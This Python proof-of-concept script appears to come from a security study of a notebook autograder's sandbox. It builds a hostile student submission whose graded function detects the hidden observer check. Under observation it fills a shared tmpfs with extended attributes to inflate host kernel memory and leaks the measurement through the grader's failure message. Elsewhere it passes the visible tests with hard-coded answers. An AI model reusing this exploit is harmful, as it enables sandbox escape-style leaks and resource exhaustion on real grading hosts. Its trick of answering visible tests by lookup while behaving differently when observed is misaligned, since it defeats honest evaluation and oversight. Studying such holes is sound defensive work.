"""a03c: a03b from inside the OBSERVER's sandbox (where the hidden check runs the student's function in a child):
its /dev/pts is the same writable, inode-uncapped tmpfs. The student's training_memory, when called in an observer
child (probes.observer.ACTIVE is inherited there), sets XATTRS_MIB MiB of 64 KiB xattrs on /dev/pts/x, reads the
host's SUnreclaim before/after, removes the file and returns the increase (MiB) as "weights": the judge's failure
message prints that number back (`off(got, right)`), a channel from the observer's child to the feedback. In the
kernel it answers the visible asserts by lookup so that the probe call is reached."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u12

MIB = int(sys.argv[1]) if len(sys.argv) > 1 else 1024
FN = '''
def training_memory(model, optimizer):
    import os, sys
    obs = sys.modules.get("probes.observer")
    if obs is None or not obs.ACTIVE:  # the kernel: the visible test's Linear(4, 3) with SGD, by lookup
        return {"weights": 60, "gradients": 0, "optimizer_state": 0, "total": 60}
    def mi(k): return next(int(l.split()[1]) // 1024 for l in open("/proc/meminfo") if l.startswith(k + ":"))
    p = "/dev/pts/x"
    open(p, "w").close()
    s0, n = mi("SUnreclaim"), 0
    try:
        for i in range(%d * 16):
            os.setxattr(p, "user.k%%d" %% i, b"x" * 65536)
            n += 1
    except OSError:
        pass
    grew = mi("SUnreclaim") - s0
    os.unlink(p)
    return {"weights": 10**9 + grew, "gradients": n, "optimizer_state": 0, "total": 0}
''' % MIB
hostile = u12.notebook("ps1_memory", overrides={"training_memory": FN})
dest = u12.course("a03c", {("mallory", "ps1_memory"): hostile})
u12.grade(dest)
u12.scores(dest)
import nbformat
nb = nbformat.read(f"{dest}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "training_memory_counts_tensors":
        for o in c.get("outputs", []):
            print("OUTPUT:", o.get("text") or o.get("evalue"))
print("(weights = 1,000,000,000 + the SUnreclaim increase in MiB, measured in the observer's child)")
